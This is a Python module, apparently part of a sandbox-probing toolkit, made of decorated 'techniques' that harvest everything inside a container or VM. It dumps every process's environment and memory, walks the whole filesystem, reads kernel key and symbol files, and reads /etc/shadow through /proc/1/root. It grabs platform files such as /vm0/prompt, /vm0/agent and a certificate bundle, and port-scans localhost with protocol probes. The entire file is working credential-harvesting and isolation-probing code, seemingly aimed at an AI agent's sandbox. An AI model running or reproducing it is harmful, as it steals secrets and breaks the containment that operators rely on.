"""What there is inside: environment, processes, memory, files, sockets."""

import ctypes
import os
import re
import socket
import stat

from channel import PROXY, technique

FILE_MAX = 1 << 18
TOTAL_MAX = 1 << 23
# The image, which is the host's own and read-only.
IMAGE = {"/usr", "/lib", "/lib32", "/lib64", "/libx32", "/bin", "/sbin", "/proc", "/sys"}
OF_PROCESS = ["environ", "cmdline", "maps", "status", "stat", "auxv", "mountinfo", "limits", "stack",
              "syscall", "wchan", "io", "comm", "cgroup", "fdinfo/0"]


def read(path, most=FILE_MAX):
    try:
        handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
    except OSError as error:
        return f"{path}: {error}\n".encode()
    try:
        return f"{path}: ".encode() + os.read(handle, most) + b"\n"
    except OSError as error:
        return f"{path}: {error}\n".encode()
    finally:
        os.close(handle)


def processes():
    return [name for name in os.listdir("/proc") if name.isdigit()]


@technique("environment", "echo")
def environment():
    return b"\n".join(name + b"=" + value for name, value in os.environb.items())


@technique("environment of all processes", "echo")
def environments():
    return b"".join(read(f"/proc/{process}/{name}") for process in processes() for name in OF_PROCESS)


@technique("open files of all processes", "look")
def open_files():
    found = b""
    for process in processes():
        base = f"/proc/{process}/fd"
        try:
            names = os.listdir(base)
        except OSError as error:
            found += repr(error).encode()
            continue
        for name in names:
            try:
                found += os.readlink(f"{base}/{name}").encode() + b"\n"
                if stat.S_ISREG(os.stat(f"{base}/{name}").st_mode):
                    found += read(f"{base}/{name}")
            except OSError as error:
                found += repr(error).encode()
    return found


@technique("memory of all processes", "echo")
def memory():
    found = b""
    for process in processes():
        maps = read(f"/proc/{process}/maps").decode("latin-1")
        try:
            handle = open(f"/proc/{process}/mem", "rb", 0)
        except OSError as error:
            found += repr(error).encode()
            continue
        # What processes hold of their own is near the end; libraries are not.
        for line in reversed(maps.splitlines()):
            match = re.search(r"([0-9a-f]+)-([0-9a-f]+) (rw..) .*?(\S*)$", line)
            if not match or len(found) > TOTAL_MAX:
                continue
            start, end = int(match[1], 16), int(match[2], 16)
            try:
                handle.seek(start)
                found += handle.read(min(end - start, 1 << 21))
            except (OSError, ValueError, OverflowError) as error:
                found += repr(error).encode()
        handle.close()
    return found


@technique("files", "look")
def files():
    found, total = [], 0
    for base, folders, names in os.walk("/"):
        folders[:] = [name for name in folders if os.path.join(base, name) not in IMAGE]
        for name in names:
            path = os.path.join(base, name)
            try:
                if not stat.S_ISREG(os.lstat(path).st_mode) or total > TOTAL_MAX:
                    continue
            except OSError:
                continue
            found.append(read(path, 1 << 16))
            total += len(found[-1])
    return b"".join(found)


@technique("files of the kernel", "look")
def kernel():
    found = b"".join(read(f"/proc/{name}") for name in ("cmdline", "version", "kcore", "kmsg", "keys",
                     "key-users", "mounts", "modules", "kallsyms", "sched_debug", "timer_list"))
    for name in os.listdir("/proc/net"):
        found += read(f"/proc/net/{name}")
    for name in ("kernel/core_pattern", "kernel/hostname", "kernel/random/boot_id"):
        found += read(f"/proc/sys/{name}")
    return found


@technique("ring buffer of the kernel", "look")
def ring():
    buffer = ctypes.create_string_buffer(1 << 18)
    count = ctypes.CDLL(None).klogctl(3, buffer, len(buffer))
    return read("/dev/kmsg") + repr(count).encode() + buffer.raw[:max(count, 0)]


@technique("leftovers on channels of the platform", "look")
def channels():
    return b"".join(read(path) for path in ("/vm0/prompt", "/vm0/agent", "/vm0/authorities.pem",
                    "/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/fd/2", "/dev/vsock", "/dev/mem",
                    "/dev/shm", "/run", "/proc/1/root/etc/shadow", "/proc/1/cwd"))


@technique("ports of the sandbox", "look")
def ports():
    found, open_ports = b"", {PROXY.port}
    for port in range(1, 65536):
        sock = socket.socket()
        if sock.connect_ex(("127.0.0.1", port)) == 0:
            open_ports.add(port)
        sock.close()
    for port in sorted(open_ports):
        for greeting in (b"", b"\r\n\r\n", b"GET / HTTP/1.0\r\n\r\n", b"GET /metrics HTTP/1.0\r\n\r\n",
                         b"\x16\x03\x01\x00\x00", b"\x04\x01\x00\x50\x7f\x00\x00\x01\x00"):
            try:
                sock = socket.create_connection(("127.0.0.1", port), 1)
                sock.settimeout(0.3)
                sock.sendall(greeting)
                found += f"{port}: ".encode() + sock.recv(4096) + b"\n"
            except OSError as error:
                found += f"{port}: {error}\n".encode()
            finally:
                sock.close()
    return found
